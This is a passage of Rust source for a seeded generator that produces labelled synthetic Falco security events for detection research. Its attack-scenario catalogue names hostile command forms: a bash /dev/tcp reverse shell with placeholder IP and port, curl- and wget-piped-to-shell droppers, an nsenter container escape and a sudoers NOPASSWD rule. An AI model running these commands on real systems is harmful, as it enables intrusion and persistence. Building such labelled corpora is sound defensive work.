//! `synth`: a labelled synthetic corpus in the shape `falco -o json_output=true`
//! prints, streamed to a writer.
//!
//! The fleet is a set of hosts with roles (web, database, CI runner,
//! Kubernetes node, bastion, Windows desktop). Each host runs long-lived
//! daemons whose event rates follow a Zipf-like law, and spawns short-lived
//! benign sessions (cron jobs, package upgrades, admin shells, CI jobs,
//! debugging, backups…), several of which look like attacks on purpose. Attack
//! chains from the [`SCENARIOS`] catalogue unfold step by step on one process
//! key, interleaved with everything else.
//!
//! Everything comes from one seeded [`Rng`]; output bytes depend only on the
//! seed, the flags and this file. Memory is bounded by the active sessions
//! ([`SESSIONS_ACTIVE_MAX`], [`CHAINS_ACTIVE_MAX`]), never by the event count.

use std::io::{self, Write};

use scbe_core::jsonw::{push_key, push_str};

use crate::rng::{hash64, Rng};

/// Benign sessions alive at once.
pub const SESSIONS_ACTIVE_MAX: usize = 48;
/// Attack chains alive at once.
pub const CHAINS_ACTIVE_MAX: usize = 4;
/// Hosts a corpus may have.
pub const HOSTS_MAX: usize = 4096;
/// Start of every corpus: 2025-03-10T08:00:00Z.
const EPOCH_SECONDS: i64 = 1_741_593_600;
/// Share of events that come from benign sessions (the rest: daemons).
const SESSION_SHARE: f64 = 0.38;
/// Mean gap between consecutive events, nanoseconds.
const EVENT_GAP_NS_MEAN: f64 = 9_000_000.0;

/// One attack scenario of the catalogue.
#[derive(Debug, Clone, Copy)]
pub struct Scenario {
    pub name: &'static str,
    /// MITRE ATT&CK technique.
    pub technique: &'static str,
    pub tactic: &'static str,
    pub summary: &'static str,
}

/// The attack catalogue: scenario → ATT&CK technique.
pub const SCENARIOS: [Scenario; 17] = [
    Scenario {
        name: "dropper_curl_sh",
        technique: "T1105",
        tactic: "command-and-control",
        summary: "`curl … | sh` download-and-run, drops and executes a payload",
    },
    Scenario {
        name: "dropper_wget_bash",
        technique: "T1105",
        tactic: "command-and-control",
        summary: "`wget -O- … | bash` or download, `chmod +x`, run",
    },
    Scenario {
        name: "reverse_shell_bash",
        technique: "T1059.004",
        tactic: "execution",
        summary: "`bash -i >& /dev/tcp/IP/PORT 0>&1` interactive reverse shell, then discovery",
    },
    Scenario {
        name: "reverse_shell_nc",
        technique: "T1095",
        tactic: "command-and-control",
        summary: "netcat / ncat / mkfifo reverse shells",
    },
    Scenario {
        name: "crypto_miner",
        technique: "T1496",
        tactic: "impact",
        summary: "XMRig-style miner from /tmp or /dev/shm talking stratum to a pool",
    },
    Scenario {
        name: "credential_access",
        technique: "T1003.008",
        tactic: "credential-access",
        summary: "reads /etc/shadow, keys and cloud credentials, stages and exfiltrates them",
    },
    Scenario {
        name: "persistence_sudoers",
        technique: "T1548.003",
        tactic: "privilege-escalation",
        summary: "NOPASSWD rule appended to /etc/sudoers or /etc/sudoers.d",
    },
    Scenario {
        name: "persistence_cron",
        technique: "T1053.003",
        tactic: "persistence",
        summary: "cron entry in /etc/cron.d or a crontab that re-downloads the implant",
    },
    Scenario {
        name: "persistence_systemd",
        technique: "T1543.002",
        tactic: "persistence",
        summary: "new unit in /etc/systemd/system, enabled with systemctl",
    },
    Scenario {
        name: "persistence_ssh_keys",
        technique: "T1098.004",
        tactic: "persistence",
        summary: "attacker key appended to authorized_keys, sshd_config loosened",
    },
    Scenario {
        name: "kernel_module",
        technique: "T1547.006",
        tactic: "persistence",
        summary: "insmod/modprobe of a rootkit module, made to load at boot",
    },
    Scenario {
        name: "process_injection",
        technique: "T1055.008",
        tactic: "defense-evasion",
        summary: "ptrace attach and process_vm_writev into a running process",
    },
    Scenario {
        name: "ransomware",
        technique: "T1486",
        tactic: "impact",
        summary: "mass write, rename to a new extension, unlink originals, ransom note",
    },
    Scenario {
        name: "log_wiping",
        technique: "T1070.002",
        tactic: "defense-evasion",
        summary: "truncates or shreds /var/log files and shell history",
    },
    Scenario {
        name: "container_escape_nsenter",
        technique: "T1611",
        tactic: "privilege-escalation",
        summary: "`nsenter -t 1 -m -u -i -n -p` from a privileged container into the host",
    },
    Scenario {
        name: "ld_preload",
        technique: "T1574.006",
        tactic: "persistence",
        summary: "library written to /etc/ld.so.preload or LD_PRELOAD= on a daemon",
    },
    Scenario {
        name: "office_powershell",
        technique: "T1059.001",
        tactic: "execution",
        summary: "Office application spawns `powershell -enc …` on a Windows-like host",
    },
];

/// What to generate.
#[derive(Debug, Clone)]
pub struct SynthConfig {
    pub seed: u64,
    pub events: u64,
    /// Share of events that belong to attack chains, in [0, 1].
    pub attack_ratio: f64,
    pub hosts: usize,
}

/// What was generated.
#[derive(Debug, Clone, Default, PartialEq)]
pub struct SynthSummary {
    pub events: u64,
    pub malicious_events: u64,
    pub chains: u64,
    /// Chains started per scenario, in catalogue order.
    pub chains_by_scenario: Vec<(&'static str, u64)>,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Role {
    Web,
    Db,
    Ci,
    K8s,
    Bastion,
    Windows,
}

#[derive(Debug)]
struct Host {
    name: String,
    role: Role,
    ip: String,
    next_pid: u32,
    kernel: &'static str,
}

#[derive(Debug, Clone)]
struct Container {
    id: String,
    name: String,
    ns: Option<String>,
    pod: Option<String>,
}

/// A process as Falco sees it.
#[derive(Debug, Clone)]
struct Proc {
    host: usize,
    pid: u32,
    ppid: u32,
    name: String,
    pname: String,
    cmdline: String,
    exepath: String,
    user: &'static str,
    uid: u32,
    sha256: Option<String>,
    trusted: bool,
    container: Option<Container>,
    /// Typical geometry norm of this process's events.
    geo: f64,
}

#[derive(Debug, Clone)]
enum Target {
    None,
    Path(String),
    /// Outbound: this host → (ip, port).
    Out(String, u16),
    /// Inbound: (ip) → this host's port.
    In(String, u16),
}

#[derive(Debug, Clone)]
struct Step {
    evt: &'static str,
    target: Target,
    rule: &'static str,
    priority: &'static str,
    tags: &'static [&'static str],
}

#[derive(Debug, Clone)]
enum LabelKind {
    Benign(&'static str),
    Attack { scenario: usize, chain_id: String },
}

#[derive(Debug)]
struct Session {
    proc: Proc,
    steps: Vec<Step>,
    next: usize,
    label: LabelKind,
}

#[derive(Debug, Clone, Copy)]
enum DaemonKind {
    Nginx,
    Gunicorn,
    Celery,
    PhpFpm,
    Node,
    Postgres,
    Redis,
    Sshd,
    Journald,
    Rsyslog,
    Cron,
    Kubelet,
    Containerd,
    Envoy,
    Coredns,
    JavaPod,
    PyPod,
    GitlabRunner,
    Dockerd,
    Explorer,
    Svchost,
    Defender,
    Edge,
}

#[derive(Debug)]
struct Daemon {
    proc: Proc,
    kind: DaemonKind,
    scenario: &'static str,
}

const AUDIT: &[&str] = &["scbe_audit", "syscall"];
const T_FS: &[&str] = &[
    "maturity_stable",
    "host",
    "container",
    "filesystem",
    "mitre_persistence",
];
const T_NET: &[&str] = &[
    "maturity_stable",
    "host",
    "container",
    "network",
    "mitre_command_and_control",
];
const T_PROC: &[&str] = &[
    "maturity_stable",
    "host",
    "container",
    "process",
    "mitre_execution",
];
const T_CRED: &[&str] = &[
    "maturity_stable",
    "host",
    "container",
    "filesystem",
    "mitre_credential_access",
    "T1555",
];
const T_PRIV: &[&str] = &[
    "maturity_incubating",
    "host",
    "container",
    "process",
    "mitre_privilege_escalation",
];
const T_EVADE: &[&str] = &[
    "maturity_stable",
    "host",
    "container",
    "filesystem",
    "mitre_defense_evasion",
    "NIST_800-53_AU-10",
];

fn audit(evt: &'static str, target: Target) -> Step {
    let rule = match evt {
        "execve" => "Audit process exec",
        "openat" | "open" => "Audit file open",
        "write" | "pwrite64" => "Audit file write",
        "unlinkat" | "unlink" | "rmdir" => "Audit file delete",
        "rename" | "renameat2" => "Audit file rename",
        "connect" | "accept" | "sendto" | "accept4" => "Audit network activity",
        _ => "Audit syscall",
    };
    Step {
        evt,
        target,
        rule,
        priority: "Debug",
        tags: AUDIT,
    }
}

fn rule(
    evt: &'static str,
    target: Target,
    rule: &'static str,
    priority: &'static str,
    tags: &'static [&'static str],
) -> Step {
    Step {
        evt,
        target,
        rule,
        priority,
        tags,
    }
}

fn path(p: impl Into<String>) -> Target {
    Target::Path(p.into())
}

/// A stable sha256-looking digest for a packaged binary.
fn package_sha(exepath: &str) -> String {
    (0..4)
        .map(|i| format!("{:016x}", hash64(exepath.as_bytes(), i)))
        .collect()
}

const PUBLIC_BAD_IPS: &[&str] = &[
    "45.9.148.108",
    "45.137.21.9",
    "91.215.85.17",
    "185.225.74.51",
    "194.38.20.31",
    "103.145.13.176",
    "141.98.10.62",
    "193.142.146.35",
    "5.188.206.14",
    "178.128.23.9",
    "209.141.40.190",
    "139.59.120.6",
    "167.99.4.112",
    "77.91.68.52",
    "89.248.165.74",
];
const POOLS: &[(&str, &str)] = &[
    ("pool.supportxmr.com", "141.94.96.144"),
    ("xmr-eu1.nanopool.org", "51.15.55.162"),
    ("gulf.moneroocean.stream", "149.202.83.171"),
    ("xmr.2miners.com", "162.19.139.184"),
    ("pool.hashvault.pro", "95.217.42.135"),
];
const KNOWN_HOSTS: &[(&str, &str)] = &[
    ("github.com", "140.82.121.4"),
    ("api.github.com", "140.82.121.6"),
    ("pypi.org", "151.101.0.223"),
    ("registry.npmjs.org", "104.16.24.34"),
    ("deb.debian.org", "151.101.2.132"),
    ("archive.ubuntu.com", "91.189.91.82"),
    ("dl.google.com", "142.250.185.78"),
    ("static.rust-lang.org", "13.35.93.87"),
    ("gitlab.com", "172.65.251.78"),
    ("registry-1.docker.io", "54.227.20.253"),
];
const USERS: &[&str] = &["alice", "bob", "carol", "deploy", "ubuntu"];
const KERNELS: &[&str] = &[
    "6.1.0-18-amd64",
    "5.15.0-105-generic",
    "6.8.0-31-generic",
    "5.10.0-28-cloud-amd64",
];

/// Generate a corpus into `out`.
pub fn synth(config: &SynthConfig, out: &mut dyn Write) -> io::Result<SynthSummary> {
    let mut gen = Generator::new(config);
    let mut line = String::with_capacity(4096);
    let mut summary = SynthSummary {
        chains_by_scenario: SCENARIOS.iter().map(|s| (s.name, 0)).collect(),
        ..SynthSummary::default()
    };
    for _ in 0..config.events {
        line.clear();
        let malicious = gen.next_event(&mut line, &mut summary);
        summary.events += 1;
        if malicious {
            summary.malicious_events += 1;
        }
        line.push('\n');
        out.write_all(line.as_bytes())?;
    }
    out.flush()?;
    Ok(summary)
}

struct Generator {
    rng: Rng,
    hosts: Vec<Host>,
    daemons: Vec<Daemon>,
    /// Cumulative Zipf weights over `daemons`.
    daemon_cdf: Vec<f64>,
    sessions: Vec<Session>,
    chains: Vec<Session>,
    clock_ns: i64,
    attack_ratio: f64,
    chain_counter: u64,
}

impl std::fmt::Debug for Generator {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("Generator").finish_non_exhaustive()
    }
}

impl Generator {
    fn new(config: &SynthConfig) -> Generator {
        let mut rng = Rng::new(config.seed);
        let n_hosts = config.hosts.clamp(1, HOSTS_MAX);
        const ROLE_CYCLE: [Role; 12] = [
            Role::Web,
            Role::K8s,
            Role::Db,
            Role::Ci,
            Role::Bastion,
            Role::Windows,
            Role::Web,
            Role::K8s,
            Role::Db,
            Role::K8s,
            Role::Web,
            Role::Windows,
        ];
        let mut hosts = Vec::with_capacity(n_hosts);
        for i in 0..n_hosts {
            let role = ROLE_CYCLE[i % ROLE_CYCLE.len()];
            let n = 10 + i;
            let name = match role {
                Role::Web => format!("web-{n:02}"),
                Role::Db => format!("db-{n:02}"),
                Role::Ci => format!("ci-runner-{n:02}"),
                Role::K8s => format!("k8s-node-{}", rng.alnum(5)),
                Role::Bastion => format!("bastion-{n:02}"),
                Role::Windows => format!("DESKTOP-{}", rng.alnum(7).to_uppercase()),
            };
            let ip = format!(
                "10.{}.{}.{}",
                1 + i / 200,
                rng.range_u32(1, 250),
                10 + (i % 200)
            );
            hosts.push(Host {
                name,
                role,
                ip,
                next_pid: rng.range_u32(700, 3000),
                kernel: rng.pick_str(KERNELS),
            });
        }
        let mut gen = Generator {
            rng,
            hosts,
            daemons: Vec::new(),
            daemon_cdf: Vec::new(),
            sessions: Vec::new(),
            chains: Vec::new(),
            clock_ns: EPOCH_SECONDS * 1_000_000_000,
            attack_ratio: config.attack_ratio.clamp(0.0, 1.0),
            chain_counter: 0,
        };
        for h in 0..gen.hosts.len() {
            gen.spawn_daemons(h);
        }
        // Zipf-like popularity: a random rank per daemon, weight 1/rank^1.1.
        let n = gen.daemons.len();
        let mut ranks: Vec<usize> = (1..=n).collect();
        for i in (1..n).rev() {
            let j = gen.rng.below(i as u64 + 1) as usize;
            ranks.swap(i, j);
        }
        let mut total = 0.0;
        for rank in ranks {
            total += 1.0 / (rank as f64).powf(1.1);
            gen.daemon_cdf.push(total);
        }
        gen
    }

    fn new_pid(&mut self, host: usize) -> u32 {
        let h = &mut self.hosts[host];
        let pid = h.next_pid;
        h.next_pid += 1 + self.rng.below(7) as u32;
        if h.next_pid > 4_194_304 {
            h.next_pid = 300;
        }
        pid
    }

    #[allow(clippy::too_many_arguments)]
    fn proc(
        &mut self,
        host: usize,
        name: &str,
        pname: &str,
        cmdline: &str,
        exepath: &str,
        user: &'static str,
        container: Option<Container>,
    ) -> Proc {
        let pid = self.new_pid(host);
        let mut ppid = pid.saturating_sub(1 + self.rng.below(40) as u32).max(1);
        // Keep the process tree consistent: a child of a daemon on this host
        // (cron, sshd, kubelet, gitlab-runner, explorer.exe, php-fpm…) names
        // that daemon's pid as its parent.
        if let Some(parent) = self
            .daemons
            .iter()
            .find(|d| d.proc.host == host && d.proc.name == pname)
        {
            ppid = parent.proc.pid;
        }
        // Most benign processes are quiet; a few are always a little odd.
        let u = self.rng.f64();
        let geo = 0.01 + 0.22 * u * u * u;
        Proc {
            host,
            pid,
            ppid,
            name: name.to_owned(),
            pname: pname.to_owned(),
            cmdline: cmdline.to_owned(),
            exepath: exepath.to_owned(),
            user,
            uid: if user == "root" {
                0
            } else {
                1000 + (hash64(user.as_bytes(), 0) % 50) as u32
            },
            sha256: Some(package_sha(exepath)),
            trusted: true,
            container,
            geo,
        }
    }

    fn pod(&mut self, ns: &str, app: &str) -> Container {
        Container {
            id: self.rng.hex(12),
            name: app.to_owned(),
            ns: Some(ns.to_owned()),
            pod: Some(format!("{app}-{}-{}", self.rng.hex(9), self.rng.alnum(5))),
        }
    }

    fn spawn_daemons(&mut self, h: usize) {
        use DaemonKind::*;
        let role = self.hosts[h].role;
        let add = |gen: &mut Generator, kind: DaemonKind, copies: usize| {
            for _ in 0..copies {
                let (name, pname, cmd, exe, user, scenario, container) = match kind {
                    Nginx => ("nginx", "nginx", "nginx: worker process", "/usr/sbin/nginx", "www-data", "benign_nginx", None),
                    PhpFpm => ("php-fpm8.2", "php-fpm8.2", "php-fpm: pool www", "/usr/sbin/php-fpm8.2", "www-data", "benign_phpfpm", None),
                    Node => ("node", "systemd", "node /srv/app/server.js", "/home/deploy/.nvm/versions/node/v20.11.1/bin/node", "deploy", "benign_node", None),
                    Gunicorn => ("python3", "gunicorn", "/srv/app/venv/bin/python3 /srv/app/venv/bin/gunicorn app.wsgi:application -w 4 -b 127.0.0.1:8000", "/srv/app/venv/bin/python3", "www-data", "benign_gunicorn", None),
                    Celery => ("python3", "systemd", "/srv/worker/venv/bin/python3 -m celery -A tasks worker --loglevel=INFO", "/srv/worker/venv/bin/python3", "worker", "benign_celery", None),
                    Postgres => ("postgres", "postgres", "postgres: 14/main: app appdb 10.0.0.5(51514) idle", "/usr/lib/postgresql/14/bin/postgres", "postgres", "benign_postgres", None),
                    Redis => ("redis-server", "systemd", "/usr/bin/redis-server 127.0.0.1:6379", "/usr/bin/redis-server", "redis", "benign_redis", None),
                    Sshd => ("sshd", "systemd", "sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups", "/usr/sbin/sshd", "root", "benign_sshd", None),
                    Journald => ("systemd-journal", "systemd", "/lib/systemd/systemd-journald", "/lib/systemd/systemd-journald", "root", "benign_journald", None),
                    Rsyslog => ("rsyslogd", "systemd", "/usr/sbin/rsyslogd -n -iNONE", "/usr/sbin/rsyslogd", "syslog", "benign_rsyslog", None),
                    Cron => ("cron", "systemd", "/usr/sbin/cron -f -P", "/usr/sbin/cron", "root", "benign_cron", None),
                    Kubelet => ("kubelet", "systemd", "/usr/bin/kubelet --config=/var/lib/kubelet/config.yaml --container-runtime-endpoint=unix:///run/containerd/containerd.sock", "/usr/bin/kubelet", "root", "benign_kubelet", None),
                    Containerd => ("containerd", "systemd", "/usr/bin/containerd", "/usr/bin/containerd", "root", "benign_containerd", None),
                    Envoy => ("envoy", "containerd-shim", "envoy -c /etc/envoy/envoy.yaml --service-cluster frontend", "/usr/local/bin/envoy", "envoy", "benign_pod_envoy", Some(gen.pod("mesh", "envoy"))),
                    Coredns => ("coredns", "containerd-shim", "/coredns -conf /etc/coredns/Corefile", "/coredns", "root", "benign_pod_coredns", Some(gen.pod("kube-system", "coredns"))),
                    JavaPod => ("java", "containerd-shim", "java -Xmx2g -jar /app/orders-service.jar", "/opt/java/openjdk/bin/java", "app", "benign_pod_java", Some(gen.pod("shop", "orders"))),
                    PyPod => ("python3", "containerd-shim", "python3 -m uvicorn api.main:app --host 0.0.0.0 --port 8080", "/usr/local/bin/python3.11", "app", "benign_pod_python3", Some(gen.pod("payments", "api"))),
                    GitlabRunner => ("gitlab-runner", "systemd", "/usr/bin/gitlab-runner run --working-directory /home/gitlab-runner --config /etc/gitlab-runner/config.toml", "/usr/bin/gitlab-runner", "gitlab-runner", "benign_runner", None),
                    Dockerd => ("dockerd", "systemd", "/usr/bin/dockerd -H fd:// --containerd=/run/containerd/containerd.sock", "/usr/bin/dockerd", "root", "benign_dockerd", None),
                    Explorer => ("explorer.exe", "userinit.exe", "C:\\Windows\\Explorer.EXE", "C:\\Windows\\explorer.exe", "jdoe", "benign_win_explorer", None),
                    Svchost => ("svchost.exe", "services.exe", "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule", "C:\\Windows\\System32\\svchost.exe", "SYSTEM", "benign_win_svchost", None),
                    Defender => ("MsMpEng.exe", "services.exe", "\"C:\\ProgramData\\Microsoft\\Windows Defender\\platform\\4.18.24020.7-0\\MsMpEng.exe\"", "C:\\ProgramData\\Microsoft\\Windows Defender\\platform\\4.18.24020.7-0\\MsMpEng.exe", "SYSTEM", "benign_win_defender", None),
                    Edge => ("msedge.exe", "explorer.exe", "\"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe\" --profile-directory=Default", "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe", "jdoe", "benign_win_edge", None),
                };
                let mut proc = gen.proc(h, name, pname, cmd, exe, user, container);
                // In-house services run from a venv or nvm: not package-signed.
                if matches!(kind, Node | Gunicorn | Celery) {
                    proc.trusted = false;
                }
                gen.daemons.push(Daemon {
                    proc,
                    kind,
                    scenario,
                });
            }
        };
        match role {
            Role::Web => {
                add(self, Nginx, 3);
                add(self, PhpFpm, 2);
                add(self, Node, 1);
                add(self, Gunicorn, 2);
            }
            Role::Db => {
                add(self, Postgres, 3);
                add(self, Redis, 1);
                add(self, Celery, 1);
            }
            Role::Ci => {
                add(self, GitlabRunner, 1);
                add(self, Dockerd, 1);
                add(self, Containerd, 1);
            }
            Role::K8s => {
                add(self, Kubelet, 1);
                add(self, Containerd, 1);
                add(self, Envoy, 2);
                add(self, Coredns, 1);
                add(self, JavaPod, 1);
                add(self, PyPod, 1);
            }
            Role::Bastion => {}
            Role::Windows => {
                add(self, Explorer, 1);
                add(self, Svchost, 2);
                add(self, Defender, 1);
                add(self, Edge, 1);
            }
        }
        if role != Role::Windows {
            add(self, Sshd, 1);
            add(self, Journald, 1);
            add(self, Rsyslog, 1);
            add(self, Cron, 1);
        }
    }

    /// Write one event into `line`; true when it is malicious.
    fn next_event(&mut self, line: &mut String, summary: &mut SynthSummary) -> bool {
        self.clock_ns += 1 + self.rng.exp(EVENT_GAP_NS_MEAN) as i64;
        let r = self.rng.f64();
        if r < self.attack_ratio {
            if self.chains.is_empty()
                || (self.chains.len() < CHAINS_ACTIVE_MAX && self.rng.chance(0.12))
            {
                let chain = self.new_chain();
                if let LabelKind::Attack { scenario, .. } = &chain.label {
                    summary.chains_by_scenario[*scenario].1 += 1;
                }
                summary.chains += 1;
                self.chains.push(chain);
            }
            let i = self.rng.below(self.chains.len() as u64) as usize;
            let done = self.emit_session(true, i, line);
            if done {
                self.chains.swap_remove(i);
            }
            true
        } else if r < self.attack_ratio + SESSION_SHARE * (1.0 - self.attack_ratio) {
            if self.sessions.is_empty()
                || (self.sessions.len() < SESSIONS_ACTIVE_MAX && self.rng.chance(0.08))
            {
                let session = self.new_session();
                self.sessions.push(session);
            }
            let i = self.rng.below(self.sessions.len() as u64) as usize;
            let done = self.emit_session(false, i, line);
            if done {
                self.sessions.swap_remove(i);
            }
            false
        } else {
            let x = self.rng.f64() * self.daemon_cdf.last().copied().unwrap_or(1.0);
            let i = self
                .daemon_cdf
                .partition_point(|c| *c <= x)
                .min(self.daemons.len() - 1);
            let step = self.daemon_step(i);
            let d = &self.daemons[i];
            let (proc, label) = (d.proc.clone(), LabelKind::Benign(d.scenario));
            self.render(&proc, &step, &label, line);
            false
        }
    }

    fn emit_session(&mut self, attack: bool, i: usize, line: &mut String) -> bool {
        let list = if attack {
            &mut self.chains
        } else {
            &mut self.sessions
        };
        let session = &mut list[i];
        let step = session.steps[session.next].clone();
        session.next += 1;
        let done = session.next >= session.steps.len();
        let proc = session.proc.clone();
        let label = session.label.clone();
        self.render(&proc, &step, &label, line);
        done
    }

    fn remote_client(&mut self) -> String {
        format!(
            "10.{}.{}.{}",
            self.rng.range_u32(0, 3),
            self.rng.range_u32(0, 255),
            self.rng.range_u32(2, 254)
        )
    }

    fn daemon_step(&mut self, i: usize) -> Step {
        use DaemonKind::*;
        let kind = self.daemons[i].kind;
        let host = self.daemons[i].proc.host;
        let r = self.rng.f64();
        let rng = &mut self.rng;
        match kind {
            Nginx => {
                if r < 0.45 {
                    let c = format!(
                        "{}.{}.{}.{}",
                        rng.range_u32(20, 220),
                        rng.range_u32(0, 255),
                        rng.range_u32(0, 255),
                        rng.range_u32(1, 254)
                    );
                    audit("accept", Target::In(c, 443))
                } else if r < 0.8 {
                    let f = *rng.pick(&[
                        "index.html",
                        "static/app.css",
                        "static/app.js",
                        "img/logo.png",
                        "favicon.ico",
                        "api/health",
                    ]);
                    audit("openat", path(format!("/var/www/html/{f}")))
                } else {
                    audit(
                        "write",
                        path(*rng.pick(&["/var/log/nginx/access.log", "/var/log/nginx/error.log"])),
                    )
                }
            }
            PhpFpm => {
                if r < 0.5 {
                    let f = *rng.pick(&[
                        "index.php",
                        "wp-login.php",
                        "wp-includes/functions.php",
                        "wp-content/plugins/akismet/akismet.php",
                    ]);
                    audit("openat", path(format!("/var/www/html/{f}")))
                } else if r < 0.8 {
                    audit(
                        "connect",
                        Target::Out(format!("10.0.{}.5", 1 + host % 5), 3306),
                    )
                } else {
                    audit(
                        "write",
                        path(format!("/var/lib/php/sessions/sess_{}", rng.alnum(26))),
                    )
                }
            }
            Node => {
                if r < 0.5 {
                    audit("connect", Target::Out("127.0.0.1".into(), 6379))
                } else {
                    let m = *rng.pick(&[
                        "express/lib/router/index.js",
                        "pg/lib/client.js",
                        "ioredis/built/Redis.js",
                    ]);
                    audit("openat", path(format!("/srv/app/node_modules/{m}")))
                }
            }
            Gunicorn => {
                if r < 0.4 {
                    let c = self.remote_client();
                    audit("accept", Target::In(c, 8000))
                } else if r < 0.7 {
                    let f = *self.rng.pick(&[
                        "static/manifest.json",
                        "templates/base.html",
                        "app/views.py",
                    ]);
                    audit("openat", path(format!("/srv/app/{f}")))
                } else if r < 0.85 {
                    audit("connect", Target::Out("10.0.0.150".into(), 6379))
                } else {
                    audit("write", path(format!("/tmp/tmp{}", self.rng.alnum(8))))
                }
            }
            Celery => {
                if r < 0.5 {
                    audit("connect", Target::Out("127.0.0.1".into(), 6379))
                } else if r < 0.8 {
                    audit("openat", path("/srv/worker/tasks.py"))
                } else {
                    let (_, ip) = *self.rng.pick(KNOWN_HOSTS);
                    audit("connect", Target::Out(ip.into(), 443))
                }
            }
            Postgres => {
                if r < 0.3 {
                    let c = self.remote_client();
                    audit("accept", Target::In(c, 5432))
                } else if r < 0.75 {
                    let n = self.rng.range_u32(16384, 16420);
                    audit(
                        "openat",
                        path(format!("/var/lib/postgresql/14/main/base/16384/{n}")),
                    )
                } else {
                    let w = self.rng.hex(8).to_uppercase();
                    audit(
                        "write",
                        path(format!(
                            "/var/lib/postgresql/14/main/pg_wal/00000001000000A7{w}"
                        )),
                    )
                }
            }
            Redis => {
                if r < 0.6 {
                    let c = self.remote_client();
                    audit("accept", Target::In(c, 6379))
                } else if r < 0.85 {
                    audit(
                        "write",
                        path(format!(
                            "/var/lib/redis/temp-{}.rdb",
                            self.rng.range_u32(1000, 99999)
                        )),
                    )
                } else {
                    audit("rename", path("/var/lib/redis/dump.rdb"))
                }
            }
            Sshd => {
                if r < 0.55 {
                    let c = self.remote_client();
                    audit("accept", Target::In(c, 22))
                } else if r < 0.8 {
                    rule(
                        "openat",
                        path("/etc/ssh/sshd_config"),
                        "Read sensitive file trusted after startup",
                        "Warning",
                        T_CRED,
                    )
                } else {
                    audit(
                        "openat",
                        path(
                            *self
                                .rng
                                .pick(&["/etc/passwd", "/etc/group", "/etc/nsswitch.conf"]),
                        ),
                    )
                }
            }
            Journald => audit(
                "write",
                path(format!(
                    "/var/log/journal/{}/system.journal",
                    package_sha("machine-id")[..32].to_owned()
                )),
            ),
            Rsyslog => audit(
                "write",
                path(*rng.pick(&["/var/log/syslog", "/var/log/auth.log", "/var/log/kern.log"])),
            ),
            Cron => {
                if r < 0.7 {
                    audit(
                        "openat",
                        path(*rng.pick(&[
                            "/etc/crontab",
                            "/etc/cron.d/e2scrub_all",
                            "/etc/cron.d/php",
                            "/etc/cron.d/certbot",
                            "/var/spool/cron/crontabs",
                        ])),
                    )
                } else {
                    audit("openat", path("/etc/pam.d/cron"))
                }
            }
            Kubelet => {
                if r < 0.4 {
                    audit("connect", Target::Out("10.96.0.1".into(), 443))
                } else if r < 0.85 {
                    let uid = self.rng.hex(8);
                    audit("openat", path(format!("/var/lib/kubelet/pods/{uid}-7c2e-4b1a-9f3e-{}/volumes/kubernetes.io~projected/kube-api-access/token", self.rng.hex(12))))
                } else {
                    let p = self.rng.range_u32(1000, 40000);
                    audit("openat", path(format!("/proc/{p}/cgroup")))
                }
            }
            Containerd => {
                if r < 0.6 {
                    let id = self.rng.hex(64);
                    audit(
                        "openat",
                        path(format!(
                            "/run/containerd/io.containerd.runtime.v2.task/k8s.io/{id}/rootfs"
                        )),
                    )
                } else {
                    let (_, ip) = *self.rng.pick(KNOWN_HOSTS);
                    audit("connect", Target::Out(ip.into(), 443))
                }
            }
            Envoy => {
                if r < 0.5 {
                    let c = self.remote_client();
                    audit("accept", Target::In(c, 8443))
                } else {
                    let ip = self.remote_client();
                    audit("connect", Target::Out(ip, 8080))
                }
            }
            Coredns => audit(
                "sendto",
                Target::Out(
                    (*rng.pick(&["10.96.0.10", "169.254.169.254", "8.8.8.8"])).to_owned(),
                    53,
                ),
            ),
            JavaPod => {
                if r < 0.5 {
                    let ip = self.remote_client();
                    audit("connect", Target::Out(ip, 5432))
                } else {
                    audit(
                        "openat",
                        path(*self.rng.pick(&[
                            "/app/orders-service.jar",
                            "/app/config/application.yaml",
                            "/tmp/hsperfdata_app/1",
                        ])),
                    )
                }
            }
            PyPod => {
                if r < 0.6 {
                    let c = self.remote_client();
                    audit("accept", Target::In(c, 8080))
                } else {
                    audit(
                        "openat",
                        path(*self.rng.pick(&[
                            "/usr/local/lib/python3.11/site-packages/fastapi/routing.py",
                            "/app/api/main.py",
                            "/etc/ssl/certs/ca-certificates.crt",
                        ])),
                    )
                }
            }
            GitlabRunner => {
                if r < 0.7 {
                    audit("connect", Target::Out("172.65.251.78".into(), 443))
                } else {
                    audit("openat", path("/etc/gitlab-runner/config.toml"))
                }
            }
            Dockerd => {
                if r < 0.5 {
                    audit("connect", Target::Out("54.227.20.253".into(), 443))
                } else {
                    let id = self.rng.hex(64);
                    audit(
                        "openat",
                        path(format!("/var/lib/docker/overlay2/{id}/merged")),
                    )
                }
            }
            Explorer => {
                let f = *rng.pick(&[
                    "Q3 report.docx",
                    "budget.xlsx",
                    "notes.txt",
                    "minutes.docx",
                    "slides.pptx",
                ]);
                audit("openat", path(format!("C:\\Users\\jdoe\\Documents\\{f}")))
            }
            Svchost => {
                if r < 0.5 {
                    audit("openat", path(*rng.pick(&["C:\\Windows\\System32\\Tasks\\Microsoft\\Windows\\UpdateOrchestrator\\Schedule Scan", "C:\\Windows\\System32\\wbem\\Repository\\OBJECTS.DATA", "C:\\Windows\\System32\\catroot2\\edb.log"])))
                } else {
                    audit("connect", Target::Out("20.190.160.1".into(), 443))
                }
            }
            Defender => {
                // Defender scans everything, including the driver store.
                let f = *rng.pick(&[
                    "C:\\Windows\\System32\\drivers\\ndis.sys",
                    "C:\\Windows\\System32\\drivers\\tcpip.sys",
                    "C:\\Users\\jdoe\\Downloads\\setup.exe",
                    "C:\\Windows\\System32\\kernel32.dll",
                    "C:\\Program Files\\7-Zip\\7z.dll",
                ]);
                audit("openat", path(f))
            }
            Edge => {
                if r < 0.7 {
                    audit(
                        "connect",
                        Target::Out(
                            (*rng.pick(&["13.107.21.200", "142.250.185.78", "151.101.0.223"]))
                                .to_owned(),
                            443,
                        ),
                    )
                } else {
                    audit("write", path("C:\\Users\\jdoe\\AppData\\Local\\Microsoft\\Edge\\User Data\\Default\\Cache\\Cache_Data\\data_1"))
                }
            }
        }
    }

    fn host_of_role(&mut self, roles: &[Role]) -> Option<usize> {
        let candidates: Vec<usize> = (0..self.hosts.len())
            .filter(|h| roles.contains(&self.hosts[*h].role))
